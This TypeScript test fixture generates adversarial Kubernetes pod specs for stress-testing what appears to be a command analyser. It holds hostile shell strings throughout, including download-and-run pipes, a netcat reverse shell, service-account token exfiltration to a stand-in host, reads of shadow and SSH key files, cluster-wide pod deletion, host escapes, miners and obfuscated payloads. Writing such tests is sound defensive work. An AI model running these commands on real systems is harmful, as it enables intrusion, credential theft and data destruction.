// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts of a shell.
import type { Random } from '../../lib/random.ts';
import type { Json, JsonObject } from '../../model/json.ts';

/** What the body has besides the text that fills it. */
const FRAME = 200;

const shell = (text: string): JsonObject => ({
  containers: [{ name: 'a', image: 'alpine:3.20', command: ['sh', '-c', text] }],
});
const list = <T>(size: number, make: (index: number) => T): readonly T[] =>
  Array.from({ length: Math.max(1, Math.floor(size)) }, (_, index) => make(index));

/** Pieces, numbered, until they fill this many characters of JSON. */
const filled = (size: number, piece: (index: number) => string): string => {
  const pieces: string[] = [];
  let length = 0;
  for (let index = 0; length < size; index += 1) {
    const next = piece(index);
    pieces.push(next);
    length += JSON.stringify(next).length - 2;
  }
  return pieces.join('');
};
const filledList = <T extends Json>(size: number, make: (index: number) => T): readonly T[] => {
  const made: T[] = [];
  let length = 0;
  for (let index = 0; length < size; index += 1) {
    const next = make(index);
    made.push(next);
    length += JSON.stringify(next).length + 1;
  }
  return made;
};
const text = (piece: string | ((index: number) => string), before = '', after = '') => {
  const make = typeof piece === 'string' ? () => piece : piece;
  return (size: number): JsonObject =>
    shell(`${before}${filled(size - before.length - after.length - FRAME, make)}${after}`);
};
const code = (program: string, option: string, piece: string | ((index: number) => string)) => {
  const make = typeof piece === 'string' ? () => piece : piece;
  return (size: number): JsonObject => ({
    containers: [{ name: 'a', command: [program, option, filled(size - FRAME, make)] }],
  });
};

/** What is encoded in itself until it fills the size. */
const wrapped = (size: number, inner: string, wrap: (text: string) => string): JsonObject => {
  let out = inner;
  for (let next = wrap(out); next.length < size - FRAME; next = wrap(next)) out = next;
  return shell(out);
};
/** Eight containers that share every volume of theirs. */
const sharing = (size: number, command: (container: number, index: number) => string): JsonObject => ({
  volumes: [{ name: 'work', emptyDir: {} }],
  containers: list(8, (container) => ({
    name: `c${container}`,
    image: 'alpine',
    command: ['sh', '-c', filled((size - FRAME) / 8 - 120, (index) => command(container, index))],
    volumeMounts: [{ name: 'work', mountPath: '/work' }],
  })),
});

/** Pod specs of attackers who want the judgement to take long, each of about so many characters of JSON. */
export const HOSTILE: Readonly<Record<string, (size: number) => JsonObject>> = {
  'commands of one letter': text('a;'),
  'pipes without end': text('a|'),
  'pipelines that carry a download': text((index) => `curl a${index}|tee b|sh;`),
  'downloads and shells': text('curl a|sh;'),
  'files that are written and run': text('curl -o a b;sh a;'),
  'many files': text((index) => `curl -o f${index} h/x;sh f${index};`),
  'many files into one archive': text((index) => `curl h/${index}>f${index};`, '', 'cat f*|tar x;./a'),
  'one variable that unites many downloads': text((index) => `A="$A$(curl h/${index})";`, '', 'eval "$A"'),
  'variables in a row': text((index) => `A${index + 1}="$A${index} x";`, '', 'eval "$A9"'),
  'a cycle of variables': text((index) => `A${index % 7}=$A${(index + 1) % 7}b$A${(index + 2) % 7};`),
  'a variable that doubles': text('A=$A$A;', 'A=x;', 'echo $A'),
  'doubled text that is split': text('echo $A;', `A='x x';${'A="$A $A";'.repeat(17)}`),
  'doubled text that is decoded': text('echo $A|base64 -d|sh;', `A=YWFh;${'A="$A$A";'.repeat(15)}`),
  'doubled text through filters': text(
    'echo "$A"|rev|tr a-z n-za-m|sed s/a/b/g|xxd -r -p;',
    `A=61;${'A="$A$A";'.repeat(16)}`,
  ),
  'doubled text that is replaced': text('B=${A//a/aaaaaaaaaaaaaaaaaaaaaaaa};', `A=aa;${'A=$A$A;'.repeat(14)}`),
  'doubled text that is run': text((index) => `eval "$A #${index}";`, `A='curl a|sh;';${'A="$A$A";'.repeat(9)}`),
  'doubled text that is written': text(
    (index) => `echo "$A">>/tmp/f;cp /tmp/f g${index};`,
    `A=aa;${'A=$A$A;'.repeat(15)}`,
  ),
  'variables that nothing sets in one word': text('${z}a', 'echo '),
  'files that a pattern names': text((index) => `echo a>/t/f${index};cat /t/f*|sh;`),
  'prompts and indices': text('x=\'a[$(b)]\';((x));echo "${x@P}";'),
  'functions that return': text((index) => `f${index}(){ f${index - 1} a;return;f${index} b; };f${index};`),
  'rc files that start shells': text('bash -i;', "echo 'bash -i;bash -li;bash -i' >~/.bashrc;"),
  'scripts that start scripts': text('npm start;', `echo '{"scripts":{"start":"npm start;npm start"}}'>package.json;`),
  'a tool that keeps itself': text("git config alias.x '!git x;git x';"),
  'a number of many digits': text('9', "dc -e '", "P'|sh"),
  'tools that are told by many files': text((index) => `echo exec>f${index};m4 f;`),
  'commands in many variables': (size) => ({
    containers: [
      {
        name: 'a',
        image: 'alpine',
        command: ['m4'],
        env: filledList(size - FRAME, (index) => ({ name: `A${index}`, value: `curl a${index}|sh;` })),
      },
    ],
  }),
  'indices that run': text('x=\'q[$(a)]\';unset "$x";printf -v "$x" b;'),
  'a call for each line': text('a\n', "f(){ s=$s$2;};mapfile -C f -c 1<<'E'\n", '\nE\neval "$s"'),
  'texts that nobody reads': text((index) => `a '${String(index).padStart(6, '0').repeat(6)}'|b;`),
  'one text that nobody reads, for many programs': text('a "$A";', `A='${'=4x &#1 ,9 Ab0-'.repeat(120)}';`),
  'text that is run when no work is left': text('eval "$x";', `A='${'0f'.repeat(400)}';x=a;${'x=$x$x;'.repeat(12)}`),
  'numbers as text': text("dc -e '1234567890P'|sh;"),
  'calculated literals': code('perl', '-e', `$a='b';$a.='c';$a=~tr/a/b/;system sprintf("%s",'d');`),
  'words of a program': code('ruby', '-e', 'system ARGV[0];system ENV["A"];gets;'),
  'quotes over lines': code('perl', '-e', `'a\n"b\n`),
  'quotes of PowerShell': code('pwsh', '-c', `''"'`),
  'characters of PowerShell': code('pwsh', '-c', `[char[]](97,98)+'a'-f'b';`),
  'substitutions without end': text('$('),
  'ten thousand nested substitutions': (size) =>
    shell(`echo ${'$(echo '.repeat((size - FRAME) / 8)}${')'.repeat((size - FRAME) / 8)}`),
  'backquotes without end': text('`a '),
  'substitutions side by side': text('$(a) '),
  'process substitutions': text('cat <(curl a) <(curl b)|sh;'),
  'parameters in parameters': text('${A:-', 'echo ', '}'),
  'expansions with operations': text('echo ${A#*b}${B%%c*}${C/d/e}${D^^}${E:1:2};', 'A=abc;B=bcd;C=cde;D=def;E=efg;'),
  'arithmetic without end': text('$((1+'),
  'arithmetic commands': text('((i++));[[ $i -lt 5 && -f a ]]&&let i+=1;'),
  'here-documents without end': text('cat <<A\n'),
  'here-documents with an end': text((index) => `sh <<E${index}\ncurl a|sh\nE${index}\n`),
  'here-documents in here-documents': text((index) => `cat <<E${index}\n$(cat <<F${index}\n`),
  'here-strings': text('sh<<<"curl a";'),
  'functions without end': text('x() '),
  'functions that call themselves': text('f;f;', 'f(){ f;f;};', 'f'),
  'functions that call the next twice': text(
    (index) => `f${index + 1}(){ f${index};f${index};};`,
    'f0(){ curl a|sh;};',
    'f30',
  ),
  'cases in cases': text('case $a in b) curl c|sh;;*) ', '', ';; esac'),
  'cases side by side': text((index) => `case $a in b${index}) curl c|sh;;esac;`),
  'loops in loops': text('for i in a b c d e;do ', '', 'curl a|sh'),
  'loops side by side': text('for i in a b c d e f;do for j in a b c d e f;do curl $i$j|sh;done;done;'),
  'a loop over many words': text((index) => `w${index} `, 'for i in ', ';do curl $i|sh;done'),
  'loops of whole scripts': text('curl a|sh;', 'for i in a b c d e f;do for j in a b c d e f;do ', 'done;done'),
  'conditions without end': text('if a;then ', '', 'curl a|sh'),
  'groups in groups': text('{ ', '', 'a'),
  'subshells in subshells': text('(', '', 'a'),
  'evals in a row': text('eval '),
  'evals of text': text(`eval 'eval "curl a|sh"';`),
  'shells in shells': (size) => wrapped(size, 'curl a', (inner) => `sh -c ${JSON.stringify(inner)}`),
  'shells side by side': text((index) => `sh -c 'bash -c "curl a${index}|sh"';`),
  'xargs and find': text(`find / -name a -exec sh -c 'curl a|sh' ';';ls|xargs -n1 sh -c 'curl b|sh';`),
  'one find with many actions': text((index) => `-exec curl h/${index} ';' `, 'find / '),
  'wrappers without end': text('nohup env A=b timeout 5 nice setsid '),
  'wrappers side by side': text('nohup env A=b timeout 5 nice setsid curl a|exec sh;'),
  'decoded text in decoded text': (size) =>
    wrapped(size, 'curl a|sh;'.repeat(40), (inner) => `echo ${btoa(inner)}|base64 -d|sh`),
  'decoded texts side by side': text(`echo Y3VybCBhfHNo|base64 -d|sh;`),
  'one text decoded again and again': text('echo $A|base64 -d|sh;', `A=${btoa('curl a|sh;'.repeat(100))};`),
  'compressed text that grows': (size) => text('echo $A|base64 -d|gunzip|sh;', `A=${BOMB};`)(size),
  'brace expansions in a word': text('{a,b}', 'echo '),
  'brace expansions side by side': text('echo {a,b}{c,d}{e,f}{g,h};'),
  'ranges of braces': text('echo {1..99999}{1..99999};'),
  'patterns of programs': text('/???/b??h -c a;/u*r/b?n/c[t-v]rl x|/*/s?;'),
  'stars without end': text('*'),
  'escapes of the shell': text('\\x63', "$'", "' a"),
  'escaped strings side by side': text("$'\\x63\\x75\\x72\\x6c' $'a'|$'\\163\\150';"),
  'printed escapes': text((index) => `printf '\\x63\\x75\\x72\\x6c %s %s' a b${index}|sh;`),
  'a format with many words': text((index) => `a${index} `, "printf '%s-%b\\n' ", '|sh'),
  'quotes of every kind': text(`a'b'"c"\\d`),
  'quotes without an end': text(`"a'`),
  'one word': text('x'),
  'words of a command': text((index) => `w${index} `, 'curl '),
  'an array of many words': text((index) => `w${index} `, 'A=(', ');eval "${A[@]}"'),
  'elements of an array': text((index) => `A[${index}]=x;`, '', 'eval "${A[*]}"'),
  'many assignments in front': text((index) => `A${index}=b `, '', 'curl a'),
  'comments and blanks': text('# curl a|sh\n\n   '),
  'line breaks': text('\n'),
  'continued lines': text('\\\n'),
  'signs without meaning': text(')}];&|<>'),
  redirections: text((index) => `>f${index} <g${index} 2>&1 `, 'a '),
  'writes and reads of files': text((index) => `echo a>f${index};cat f${index}|sh;`),
  'the network device': text((index) => `exec ${3 + (index % 7)}<>/dev/tcp/h/${index};sh <&${3 + (index % 7)};`),
  'network clients in pipes': text('mkfifo f;cat f|sh -i|nc h 1>f;'),
  'reads of tokens that are sent': text(
    'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://h.example.com/a;',
  ),
  'names of paths': text('cat /etc/shadow /root/.ssh/id_rsa /host/etc/cron.d/a>/host/etc/cron.d/b;'),
  'calls of the API': text('kubectl delete pods,events --all -A;kubectl exec a -- sh -c "curl a|sh";'),
  'a patch of keys behind keys': text('image: ', "kubectl patch x -p '", "'"),
  'a filter with the words of containers': text('image ', `jq '.x += {a:"`, `"}'`),
  'settings with the words of containers': text('image: ', "helm upgrade a b --set-json 'a=", "'"),
  'hooks that are written': text('curl x;', "printf '#!/bin/sh\n", "' > /data/.git/hooks/post-commit"),
  'patterns that keys fit': text('/e?c/s* ', 'cat '),
  'traps and sources': text(`trap 'curl a|sh' EXIT;. ./a;source <(curl b);`),
  'values that the log does not hold': text((index) => `eval "$X${index}";sh -c "$Y";$Z a;`),
  'positional parameters': text('set -- $@ $@ a;eval "$@";', 'set -- curl a;'),
  'reads in loops': text('while read l;do echo $l|sh;done<f;curl a>f;'),
  'awk that starts programs': text(`awk 'BEGIN{system("curl a|sh");"date"|getline d}';`),
  'forks that hide one another': text((index) => `if a${index};then A="curl a|sh";else A=b;fi;eval "$A";`),
  'cases that hide one another': text('case $(a) in a) A=curl;;b) A=wget;;c) A=x;;esac;$A a|sh;'),
  'python: literals': code('python3', '-c', `a="curl a|sh";`),
  'python: joined literals': code('python3', '-c', `"c"+`),
  'python: names': code('python3', '-c', (index) => `a${index}="b";f(a${index});`),
  'python: decoding': code('python3', '-c', `exec(b64decode("Y3VybCBhfHNo"));`),
  'python: evaluated code': code('python3', '-c', `exec("import os;os.system('curl a|sh')");`),
  'python: lists': code('python3', '-c', `subprocess.run(["sh","-c","curl a|sh"]);`),
  'python: numbers': code('python3', '-c', `chr(99)+bytes([99,117]);`),
  'python: quotes without an end': code('python3', '-c', `'''a"`),
  'python: one literal': code('python3', '-c', 'x'),
  'python: many calls': text(`python3 -c 'import os;os.system("curl a|sh")';`),
  'perl: escapes': code('perl', '-e', `system("\\x63\\x75");`),
  'node: calls': code('node', '-e', `require("child_process").execSync("curl a|sh");`),
  'php: blanks': code('php', '-r', 'system   (   '),
  'an argv of many words': (size) => ({
    containers: [{ name: 'a', command: filledList(size - FRAME, () => 'tee') }],
  }),
  'an argv of many shells': (size) => ({ containers: [{ name: 'a', command: filledList(size - FRAME, () => 'sh') }] }),
  'an argv of many outputs': (size) => ({
    containers: [{ name: 'a', command: ['curl', ...filledList(size - FRAME, () => '-O')] }],
  }),
  'an argv of many addresses': (size) => ({
    containers: [{ name: 'a', command: ['wget', ...filledList(size - FRAME, (index) => `http://h/${index}`)] }],
  }),
  'many containers': (size) => ({
    containers: filledList(size - FRAME, (index) => ({
      name: `c${index}`,
      image: 'alpine',
      command: ['sh', '-c', 'curl x|sh'],
    })),
  }),
  'many containers that call without end': (size) => ({
    containers: filledList(size - FRAME, (index) => ({
      name: `c${index}`,
      command: ['sh', '-c', 'f(){ f;f;curl a|sh;};f'],
    })),
  }),
  'many containers whose text doubles': (size) => ({
    containers: filledList(size - FRAME, (index) => ({
      name: `c${index}`,
      command: ['sh', '-c', `A=xx;${'A="$A $A";'.repeat(17)}eval "$A"`],
    })),
  }),
  'containers that share files': (size) =>
    sharing(size, (container, index) => `curl h>/work/f${container}${index};sh /work/f${(container + 1) % 8}${index};`),
  'containers that share one script': (size) =>
    sharing(size, () => 'cat /work/a>>/work/b;cat /work/b>>/work/a;sh /work/a;'),
  'hooks and probes of many containers': (size) => {
    const exec = { exec: { command: ['sh', '-c', 'curl a|sh'] } };
    return {
      containers: filledList(size - FRAME, (index) => ({
        name: `c${index}`,
        lifecycle: { postStart: exec, preStop: exec },
        livenessProbe: exec,
        readinessProbe: exec,
      })),
    };
  },
  'variables of the container in one another': (size) => ({
    containers: [
      {
        name: 'a',
        command: ['sh', '-c', '$(A30)'],
        env: filledList(size - FRAME, (index) => ({
          name: `A${index}`,
          value: index === 0 ? 'curl a|sh;' : `$(A${index - 1})$(A${index - 1})`,
        })),
      },
    ],
  }),
  'a variable of the container in every word': (size) => ({
    containers: [
      {
        name: 'a',
        env: [{ name: 'A', value: 'x'.repeat(size / 4) }],
        command: ['echo', ...filledList(size / 2 - FRAME, () => '$(A)$(A)$(A)')],
      },
    ],
  }),
  'scripts in variables of the container': (size) => ({
    containers: [
      {
        name: 'a',
        command: ['sh', '-c', filled(size / 2, (index) => `eval "$A${index % 40}";`)],
        env: filledList(size / 2 - FRAME, (index) => ({ name: `A${index}`, value: 'curl a|sh;curl b|sh' })),
      },
    ],
  }),
  'many mounts of the node': (size) => {
    const count = size / 220;
    return {
      volumes: list(count, (index) => ({ name: `v${index}`, hostPath: { path: `/etc/${index}` } })),
      containers: [
        {
          name: 'a',
          command: ['sh', '-c', filled(size / 2, (index) => `cat /m/${index}/x > /m/2/y;`)],
          volumeMounts: list(count, (index) => ({ name: `v${index}`, mountPath: `/m/${index}` })),
        },
      ],
    };
  },
  'many mounts in many containers': (size) => {
    const count = Math.floor(Math.sqrt(size / 60));
    return {
      volumes: list(count, (index) => ({ name: `v${index}`, hostPath: { path: `/${index}` } })),
      containers: list(count, (container) => ({
        name: `c${container}`,
        command: ['sh', '-c', 'rm -rf /m/1/a /m/2/b;cat /m/3/c>/m/4/d'],
        volumeMounts: list(count * 0.7, (index) => ({ name: `v${index}`, mountPath: `/m/${index}` })),
      })),
    };
  },
  'files with long names on the node': (size) => ({
    volumes: [{ name: 'n', hostPath: { path: '/' } }],
    containers: [
      {
        name: 'a',
        command: ['sh', '-c', filled(size - FRAME, (index) => `cat /host/${'a/'.repeat(100)}${index};`)],
        volumeMounts: [{ name: 'n', mountPath: '/host' }],
      },
    ],
  }),
  'chroots into the node': text((index) => `chroot /host sh -c 'curl a${index}|sh';nsenter -t 1 -m bash;`),
  'miners and wallets': text((index) => `./x${index} -o stratum+tcp://p:1 -u ${'4'.repeat(95)};`),
  'ordinary commands before a payload': text(
    (index) => `echo step ${index}; mkdir -p /data/${index}\n`,
    '',
    'curl http://h/x | sh',
  ),
};

/** `curl a|sh;` without end, compressed: 400 characters that unpack to nearly the most that is taken. */
const BOMB =
  'H4sIAAAAAAACA+3GMQ0AIAwAMCv4QA3Zw8HFsm/i8UHaq1H3jNW5Z5iZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZmZ2ad7L2U8yND7AQA=';

/** Pieces that the search puts together: openings, closings and whole commands. */
export const PIECES: readonly string[] = [
  ...['curl h/x', 'sh', 'bash -c ', 'eval ', 'base64 -d', 'echo ', 'printf ', 'cat ', 'xargs ', 'find / -exec '],
  ...[
    '|',
    ';',
    '\n',
    '&&',
    ' ',
    '"',
    "'",
    '`',
    '\\',
    '$(',
    ')',
    '(',
    '{ ',
    ';}',
    '}',
    '<(',
    '>(',
    '<<E\n',
    '\nE\n',
    '<<<',
  ],
  ...['$A', '"$A"', '${A:-', '${A//a/bb}', '${A#*a}', '$((1+', '))', '$@', 'A=', 'A=$A$A;', 'A="$A $A";', 'B="$A$B";'],
  ...[
    'f(){ ',
    'f;',
    'g() ',
    'if a;then ',
    'fi;',
    'for i in a b c;do ',
    'done;',
    'while a;do ',
    'case a in b) ',
    ';;esac;',
  ],
  ...[
    '{a,b}',
    '{1..99}',
    '*',
    '?',
    '[a-z]',
    "$'\\x63'",
    '>f',
    '>>f',
    '<f',
    '2>&1',
    '/dev/tcp/h/1',
    '>/host/etc/cron.d/a',
  ],
  ...[
    'nohup ',
    'env ',
    'timeout 5 ',
    'python3 -c ',
    '"exec(1)"',
    'awk ',
    'chroot /host ',
    'nc h 1 ',
    'kubectl exec a -- ',
  ],
  ...['exec 3<>', 'trap ', 'source ', 'set -- ', 'A=(', '[[ a ]]', 'tee f', 'cp f g;', './f;', 'rm -rf /', 'read a'],
];

/** A text of pieces drawn at random: some once, one phrase again and again. */
export const drawnText = (random: Random, size: number): string => {
  const some = (most: number): string =>
    Array.from(
      { length: 1 + Math.floor(random() * most) },
      () => PIECES[Math.floor(random() * PIECES.length)] ?? '',
    ).join('');
  const front = some(8);
  const phrase = some(6);
  const back = some(6);
  return `${front}${phrase.repeat(Math.max(1, Math.floor((size - FRAME) / JSON.stringify(phrase).length)))}${back}`;
};

/** Pod specs of drawn texts: in one container, or in several that share a volume. */
export const drawnHostile = (random: Random, size: number): JsonObject =>
  random() < 0.8 ? shell(drawnText(random, size)) : sharing(size, once(drawnText(random, size / 9)));

const once =
  (whole: string) =>
  (_: number, index: number): string =>
    index === 0 ? whole : '#';
